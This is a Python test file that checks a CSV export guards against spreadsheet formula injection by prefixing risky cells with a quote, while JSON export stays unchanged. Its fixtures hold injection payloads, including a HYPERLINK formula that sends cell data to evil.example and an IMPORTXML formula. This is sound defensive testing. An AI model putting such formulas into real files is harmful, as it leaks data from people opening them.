"""CSV export: no cell a spreadsheet would run as a formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

from app.rights.export import _text_cell
from tests.conftest import Api

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_formula_like_values_are_prefixed_in_every_cell(api: Api) -> None:
    subject = api.create_subject(
        emails=["=cmd@example.se"],
        phones=["+46701234567"],
        external_refs=[{"system": "crm", "id": "@SUM(1+1)"}],
    )
    api.add_record(
        subject["id"],
        {
            "category": "contact",
            "origin": "provided",
            "source": "=IMPORTXML(A1)",
            "data": {
                "name": HYPERLINK,
                "title": "+CFO",
                "address": "-2+3",
                "phone": "070-123 45 67",
            },
        },
    )
    api.add_record(
        subject["id"],
        {
            "category": "meeting",
            "origin": "provided",
            "source": "calendar",
            "data": {
                "start": "2026-02-01T09:00:00+01:00",
                "end": "2026-02-01T10:00:00+01:00",
                "subject": "@risk",
                "participants": ["Per", "=1+1"],
            },
        },
    )
    api.add_record(
        subject["id"],
        {
            "category": "sales_document",
            "origin": "provided",
            "source": "billing",
            "data": {
                "kind": "invoice",
                "number": "-1",
                "date": "2024-03-15",
                "amount": "-100.00",
                "currency": "SEK",
            },
        },
    )
    response = api.get(f"/v1/subjects/{subject['id']}/export?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["record_id", "category", "field", "value", "source", "origin", "created_at"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    values = {(row[2], row[3]) for row in rows[1:]}
    assert {
        ("email", "'=cmd@example.se"),
        ("phone", "'+46701234567"),
        ("external_ref.crm", "'@SUM(1+1)"),
        ("name", "'" + HYPERLINK),
        ("title", "'+CFO"),
        ("address", "'-2+3"),
        ("subject", "'@risk"),
        ("participants.0", "Per"),
        ("participants.1", "'=1+1"),
        ("number", "'-1"),
        ("amount", "'-100.00"),
        ("currency", "SEK"),
    } <= values
    assert "'=IMPORTXML(A1)" in {row[4] for row in rows[1:]}


def test_json_export_is_unchanged(api: Api) -> None:
    subject = api.create_subject(emails=["=cmd@example.se"])
    api.add_record(
        subject["id"],
        {
            "category": "contact",
            "origin": "provided",
            "source": "=src",
            "data": {"name": HYPERLINK},
        },
    )
    document = api.get(f"/v1/subjects/{subject['id']}/export?format=json").json()
    assert document["identifiers"]["emails"] == ["=cmd@example.se"]
    assert document["records"][0]["data"]["name"] == HYPERLINK
    assert document["records"][0]["source"] == "=src"


def test_every_trigger_character_is_covered() -> None:
    """Input strips leading whitespace today; the export does not rely on it."""
    for start in FORMULA_STARTS:
        assert _text_cell(f"{start}1+1") == f"'{start}1+1"
    for harmless in ("", "Åsa", "a=1", " =1", "'=1", "1-2"):
        assert _text_cell(harmless) == harmless
